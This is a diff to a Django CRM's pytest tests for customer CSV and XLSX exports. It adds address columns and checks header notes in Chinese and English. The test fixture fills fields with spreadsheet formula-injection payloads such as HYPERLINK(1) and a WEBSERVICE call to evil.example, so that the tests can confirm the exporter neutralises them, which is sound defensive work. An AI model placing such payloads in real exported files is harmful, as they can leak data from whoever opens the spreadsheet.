@@ -23,7 +23,7 @@ from guanxi.customers.exports import (
     customers_export_xlsx,
     neutralise_formula,
 )
-from guanxi.customers.models import Customer, Email, Tag
+from guanxi.customers.models import Address, Customer, Email, Tag
 from guanxi.customers.services import customer_create
 
 pytestmark = pytest.mark.django_db
@@ -31,7 +31,16 @@ pytestmark = pytest.mark.django_db
 FORMATS = ("csv", "xlsx")
 DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
 # The text columns a customer's own data can fill, each with the characters it is given below.
-PAYLOAD_COLUMNS = ("external_id", "name", "company", "industry", "sales_region", "emails", "tags")
+PAYLOAD_COLUMNS = (
+    "external_id",
+    "name",
+    "company",
+    "industry",
+    "sales_region",
+    "emails",
+    *("address", "city", "region", "postcode", "country"),
+    "tags",
+)
 
 
 def read_csv(content: bytes) -> list[dict[str, str]]:
@@ -77,6 +86,14 @@ def customer_with_text(start: str) -> Customer:
         region=f"{start}2+3",
     )
     Email.objects.create(customer=customer, address=f"{start}x@example.com")
+    Address.objects.create(
+        customer=customer,
+        street=f"{start}HYPERLINK(1)",
+        city=f"{start}A1",
+        region=f"{start}1+1",
+        postcode=f"{start}SW1A",  # not "-200000", a bare negative number left as it is
+        country=f"{start}C",
+    )
     customer.tags.add(Tag.objects.create(name=f'{start}WEBSERVICE("http://evil.example")'))
     return customer
 
@@ -331,6 +348,53 @@ def test_chinese_text_survives(company, export_format):
     assert sorted(row["tags"].split("; ")) == ["展会2026", "重要客户"]
 
 
+ADDRESS_COLUMNS = ("address", "city", "region", "postcode", "country")
+
+
+@pytest.mark.parametrize("export_format", FORMATS)
+def test_a_customer_is_exported_with_its_first_address_under_the_imports_keys(
+    company, export_format
+):
+    two = customer_create(
+        actor=company.rep,
+        data={
+            "name": "两个地址",
+            "region": "华东",
+            "addresses": [
+                {
+                    "label": "billing",
+                    "street": "南京西路 1 号",
+                    "city": "上海",
+                    "region": "上海市",
+                    "postcode": "200040",
+                    "country": "CN",
+                },
+                {"street": "5 Xinhua Rd", "city": "Guangzhou", "region": "Guangdong"},
+            ],
+        },
+    )
+    customer_create(actor=company.rep, data={"name": "没有地址", "region": "华南"})
+    # The columns follow the emails, named as the import names them; the sales region keeps
+    # its own column, apart from the address's province.
+    start = EXPORT_COLUMNS.index("emails") + 1
+    assert EXPORT_COLUMNS[start : start + 5] == ADDRESS_COLUMNS
+    assert EXPORT_COLUMNS.count("region") == 1 and "sales_region" in EXPORT_COLUMNS
+    rows = {row["name"]: row for row in export_values(export_format, actor=company.rep)}
+    # The first in the model's ordering (the earliest added): there is no primary address.
+    assert two.addresses.first().street == "南京西路 1 号"
+    assert [rows["两个地址"][c] for c in ADDRESS_COLUMNS] == [
+        "南京西路 1 号",
+        "上海",
+        "上海市",
+        "200040",
+        "CN",
+    ]
+    assert rows["两个地址"]["sales_region"] == "华东"
+    empty = "" if export_format == "csv" else None
+    assert [rows["没有地址"][c] for c in ADDRESS_COLUMNS] == [empty] * 5
+    assert rows["没有地址"]["sales_region"] == "华南"
+
+
 @pytest.mark.parametrize("export_format", FORMATS)
 def test_an_empty_list_exports_the_header_only(company, export_format):
     if export_format == "csv":
@@ -442,3 +506,12 @@ def test_xlsx_header_cells_name_their_column_in_the_readers_language_on_every_sh
         assert all(notes.values())
     if language == "zh-hans":
         assert notes["phones"].startswith("电话\n") and notes["sales_region"] == "销售区域"
+        # The import's ``region`` is the address's province, and its note says so.
+        assert notes["region"].startswith("省 / 州\n") and notes["address"].startswith("详细地址\n")
+        assert (
+            notes["city"]
+            == "城市\n客户的第一个地址；导入只添加客户还没有的地址，不修改、不删除已有地址"
+        )
+    else:
+        assert notes["region"].startswith("Province / state\n")
+        assert notes["address"].startswith("Street address\n")
